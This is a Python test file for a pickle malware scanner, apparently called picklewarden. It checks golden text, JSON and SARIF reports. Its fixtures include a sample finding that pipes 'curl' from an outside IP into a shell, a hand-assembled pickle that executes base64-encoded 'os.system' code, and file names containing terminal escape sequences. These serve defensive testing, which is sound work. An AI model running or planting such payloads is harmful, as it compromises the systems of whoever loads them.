"""Golden outputs for the text, JSON and SARIF renderers, and the schemas they promise to follow.

Two reports are rendered: a fixed one built here (every field the model has, including errors, skipped files,
indicators and a policy note) and one from a real scan of a pickle assembled opcode by opcode. To accept an
intended change of output, regenerate the goldens and review the diff:

    PICKLEWARDEN_UPDATE_GOLDEN=1 python -m pytest tests/test_reports.py
"""

from __future__ import annotations

import base64
import json
import os
from pathlib import Path

import jsonschema
import pytest

from picklewarden.filescan import scan_bytes
from picklewarden.model import FileReport, Finding, Indicator, Report, Severity
from picklewarden.report import json as json_report
from picklewarden.report import plain, sarif, text
from tests.asm import Asm

ROOT = Path(__file__).resolve().parent.parent
GOLDEN = Path(__file__).resolve().parent / "golden"
SARIF_SCHEMA = Path(__file__).resolve().parent / "data" / "sarif-schema-2.1.0.json"
JSON_SCHEMA = ROOT / "docs" / "json-schema-v1.json"
VERSION = "0.0.0-golden"
"""Renderers take the tool version as a parameter so goldens do not change with every release."""


def fixed_report() -> Report:
    evil = FileReport(
        path="models/evil.pt",
        format="torch-zip",
        pickles=1,
        findings=(
            Finding(
                "PW100",
                Severity.CRITICAL,
                "calls posix.system: runs a shell command",
                member="archive/data.pkl",
                offset=62,
                evidence="from posix import system\n_var1 = system('curl http://203.0.113.7/x | sh')",
                symbol="posix.system",
                indicators=(
                    Indicator("command", "curl http://203.0.113.7/x | sh"),
                    Indicator("url", "http://203.0.113.7/x"),
                    Indicator("ip", "203.0.113.7"),
                ),
            ),
            Finding(
                "PW201",
                Severity.MEDIUM,
                "instantiates unknown global acme.nn.Block",
                member="archive/data.pkl",
                offset=30,
                evidence="from acme.nn import Block\n_var0 = Block.__new__(Block)",
                symbol="acme.nn.Block",
            ),
            Finding(
                "PW104",
                Severity.INFO,
                "calls builtins.open: opens a file",
                member="archive/data.pkl",
                offset=90,
                evidence="from builtins import open\n_var2 = open('cache.bin')",
                symbol="builtins.open",
                policy="DANGEROUS OVERRIDE: builtins.open accepted by allow_dangerous 'builtins.open', severity "
                "high -> info (picklewarden.toml)",
            ),
        ),
    )
    raw = FileReport(
        path="weights.pkl",
        format="pickle",
        pickles=2,
        findings=(
            Finding(
                "PW302",
                Severity.LOW,
                "12 bytes after the last pickle are not a pickle",
                offset=40,
            ),
        ),
    )
    broken = FileReport(path="broken.bin", format="unknown", errors=("not a pickle or a known model format",))
    hostile_name = FileReport(
        path="odd\x1b[31mname.pkl",
        format="pickle",
        pickles=1,
        findings=(
            Finding("PW200", Severity.LOW, "imports unknown global x\x1b]0;pwned\x07y.Z", offset=2, evidence="_g1"),
        ),
    )
    clean = FileReport(path="models/clean.pt", format="torch-zip", pickles=1)
    skipped = FileReport(path="models/README.md", format="unknown", skipped=True)
    return Report((evil, raw, broken, hostile_name, clean, skipped))


def scanned_report() -> Report:
    """A real scan: exec(base64-decoded source) hidden behind a memoized callable, plus trailing junk."""
    source = "import os; os.system('id')"
    data = (
        Asm(2)
        .global_("builtins", "exec")
        .binput(1)
        .pop()
        .binget(1)
        .global_("base64", "b64decode")
        .text(base64.b64encode(source.encode()).decode())
        .tuple1()
        .reduce()
        .tuple1()
        .reduce()
        .stop()
        .raw(b"junk after STOP")
        .bytes()
    )
    return Report((scan_bytes(data, path="payload.pkl"),))


REPORTS = {"fixed": fixed_report, "scanned": scanned_report}


def _renderings(name: str) -> dict[str, str]:
    report = REPORTS[name]()
    return {
        "txt": text.render(report),
        "quiet.txt": text.render(report, quiet=True),
        "json": json_report.render(report, version=VERSION),
        "sarif": sarif.render(report, version=VERSION, notices=["policy picklewarden.toml: example notice"]),
    }


@pytest.mark.parametrize("name", sorted(REPORTS))
@pytest.mark.parametrize("suffix", ["txt", "quiet.txt", "json", "sarif"])
def test_golden(name: str, suffix: str) -> None:
    rendered = _renderings(name)[suffix]
    golden = GOLDEN / f"{name}.{suffix}"
    if os.environ.get("PICKLEWARDEN_UPDATE_GOLDEN"):
        golden.parent.mkdir(exist_ok=True)
        golden.write_text(rendered, encoding="utf-8")
    assert golden.exists(), f"missing {golden}; run with PICKLEWARDEN_UPDATE_GOLDEN=1 once and review it"
    assert rendered == golden.read_text(encoding="utf-8"), (
        f"{golden.name} changed; if intended: PICKLEWARDEN_UPDATE_GOLDEN=1 python -m pytest {__file__}"
    )


def test_plain_text_is_plain_and_hostile_names_cannot_reach_the_terminal() -> None:
    out = text.render(fixed_report())
    assert "\x1b" not in out and "\x07" not in out
    assert "odd\\x1b[31mname.pkl" in out  # shown, escaped
    assert "x\\x1b]0;pwned\\x07y.Z" in out
    assert "DANGEROUS OVERRIDE" in out
    colored = text.render(fixed_report(), color=True, width=120)
    assert "\x1b[" in colored  # colour codes of our own
    assert "\x1b]0;pwned" not in colored and "odd\x1b[31m" not in colored


def test_text_marks_the_offending_line_and_shows_indicators() -> None:
    out = text.render(fixed_report())
    assert "    > | _var1 = system('curl http://203.0.113.7/x | sh')" in out
    assert "      | from posix import system" in out
    assert "url: http://203.0.113.7/x" in out and "ip: 203.0.113.7" in out
    assert "archive/data.pkl @ offset 62 (0x3e)" in out


def test_quiet_lists_only_files_that_are_not_safe() -> None:
    out = text.render(fixed_report(), quiet=True)
    assert "models/clean.pt" not in out
    assert "models/evil.pt: MALICIOUS" in out and "broken.bin: ERROR" in out


@pytest.mark.parametrize("name", sorted(REPORTS))
def test_json_follows_the_documented_schema(name: str) -> None:
    schema = json.loads(JSON_SCHEMA.read_text())
    jsonschema.Draft202012Validator.check_schema(schema)
    document = json.loads(json_report.render(REPORTS[name]()))
    jsonschema.Draft202012Validator(schema).validate(document)


def test_json_keeps_the_v1_contract() -> None:
    body = json.loads(json_report.render(fixed_report()))
    assert body["schema_version"] == 1
    finding = body["files"][0]["findings"][0]
    assert set(finding) >= {"rule", "severity", "message", "member", "offset", "evidence", "symbol"}
    assert body["skipped"] == ["models/README.md"]
    assert body["summary"] == {
        "files": 5,
        "safe": 1,
        "error": 1,
        "suspicious": 2,
        "malicious": 1,
        "verdict": "malicious",
    }


@pytest.fixture(scope="module")
def sarif_validator() -> jsonschema.protocols.Validator:
    """The official OASIS SARIF 2.1.0 schema (errata01), vendored: see tests/data/README.md."""
    schema = json.loads(SARIF_SCHEMA.read_text())
    assert schema["title"] == "Static Analysis Results Format (SARIF) Version 2.1.0 JSON Schema"
    validator_class = jsonschema.validators.validator_for(schema)
    validator_class.check_schema(schema)
    return validator_class(schema, format_checker=validator_class.FORMAT_CHECKER)


@pytest.mark.parametrize("name", sorted(REPORTS))
def test_sarif_is_valid_against_the_official_schema(name: str, sarif_validator: jsonschema.protocols.Validator) -> None:
    document = json.loads(sarif.render(REPORTS[name](), notices=["a notice"]))
    errors = sorted(sarif_validator.iter_errors(document), key=lambda e: list(e.path))
    assert not errors, "\n".join(f"{list(e.path)}: {e.message}" for e in errors[:10])


def test_the_vendored_schema_rejects_broken_sarif(sarif_validator: jsonschema.protocols.Validator) -> None:
    """Guard against a schema that accepts anything (so the test above would prove nothing)."""
    document = json.loads(sarif.render(fixed_report()))
    document["runs"][0]["results"][0]["level"] = "fatal"
    assert not sarif_validator.is_valid(document)
    document = json.loads(sarif.render(fixed_report()))
    document["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"] = {"byteOffset": -5}
    assert not sarif_validator.is_valid(document)
    assert not sarif_validator.is_valid({"version": "2.0.0", "runs": []})


def test_sarif_content_for_dashboards() -> None:
    log = json.loads(sarif.render(fixed_report(), notices=["policy x: DANGEROUS OVERRIDE: ..."]))
    run = log["runs"][0]
    rules = {r["id"]: r for r in run["tool"]["driver"]["rules"]}
    assert rules["PW100"]["properties"]["tags"] == ["security", "external/cwe/cwe-78"]
    assert rules["PW100"]["defaultConfiguration"]["level"] == "error"
    assert "help" in rules["PW100"] and rules["PW100"]["help"]["text"].startswith("The pickle reaches")
    results = run["results"]
    by_rule = {r["ruleId"]: r for r in results}
    # Bare pickle: the byte offset is the file's; container member: file-level + related location in member.
    bare = by_rule["PW302"]["locations"][0]["physicalLocation"]
    assert bare["artifactLocation"]["uri"] == "weights.pkl" and bare["region"] == {"byteOffset": 40, "byteLength": 1}
    member = by_rule["PW100"]
    assert "region" not in member["locations"][0]["physicalLocation"]
    related = member["relatedLocations"][0]["physicalLocation"]
    assert related["region"]["byteOffset"] == 62
    nested = run["artifacts"][related["artifactLocation"]["index"]]
    assert nested["location"]["uri"] == "archive/data.pkl"
    assert run["artifacts"][nested["parentIndex"]]["location"]["uri"] == "models/evil.pt"
    # A policy-accepted dangerous finding is kept, downgraded, and marked suppressed with the reason.
    assert by_rule["PW104"]["level"] == "note" and by_rule["PW104"]["suppressions"][0]["kind"] == "external"
    # Files that could not be analysed are tool notifications, never silently clean.
    invocation = run["invocations"][0]
    assert invocation["executionSuccessful"] is False
    assert "broken.bin" in invocation["toolExecutionNotifications"][0]["message"]["text"]
    assert "DANGEROUS OVERRIDE" in invocation["toolConfigurationNotifications"][0]["message"]["text"]
    # Stable fingerprints: the same finding gets the same one in every run.
    again = json.loads(sarif.render(fixed_report()))["runs"][0]["results"]
    assert [r["partialFingerprints"] for r in results] == [r["partialFingerprints"] for r in again]


def test_the_scanned_payload_is_explained() -> None:
    out = text.render(scanned_report())
    assert "payload.pkl: MALICIOUS" in out
    assert "PW101" in out and "exec" in out


def _shapes() -> list[Report]:
    """Every report shape the text renderer has: the fixed and scanned reports, each of their files alone
    (one file lists a safe row; several hide it), and nothing scanned at all."""
    fixed, scanned = fixed_report(), scanned_report()
    singles = [Report((f,)) for f in (*fixed.files, *scanned.files)]
    return [fixed, scanned, Report(()), Report(fixed.files[:2]), *singles]


@pytest.mark.parametrize("quiet", [False, True])
def test_plain_renderer_prints_what_rich_prints(quiet: bool) -> None:
    for report in _shapes():
        mine = plain.render(report, quiet=quiet)
        assert mine is not None  # every shape here is ASCII once cleaned
        assert mine == text.render(report, quiet=quiet)


def test_plain_renderer_matches_rich_on_the_corpus(tmp_path: Path) -> None:
    """Real findings (evidence lines, indicators, nested payloads) of every malicious and benign sample."""
    from picklewarden.filescan import scan_path
    from tests.corpus import BENIGN, MALICIOUS, write

    reports = []
    for sample in (*MALICIOUS, *BENIGN):
        if sample.needs_torch:
            continue  # built by torch: covered by the scanned shapes above, and slow to build here
        reports.append(scan_path(str(write(sample, tmp_path, tmp_path / "canary"))))
    assert len(reports) > 50
    whole = Report(tuple(reports))
    assert {f.verdict.label for f in reports} >= {"malicious", "safe"}
    for report in (whole, *(Report((r,)) for r in reports)):
        assert plain.render(report) == text.render(report)
    assert plain.render(whole, quiet=True) == text.render(whole, quiet=True)


def test_plain_renderer_leaves_wide_characters_to_rich() -> None:
    """A CJK file name takes two cells per character: rich measures it, the plain renderer declines."""
    wide = Report((FileReport(path="模型/权重.pt", format="pickle", pickles=1),))
    assert plain.render(wide) is None
    rendered = text.render(wide)
    assert "| 模型/权重.pt |" in rendered
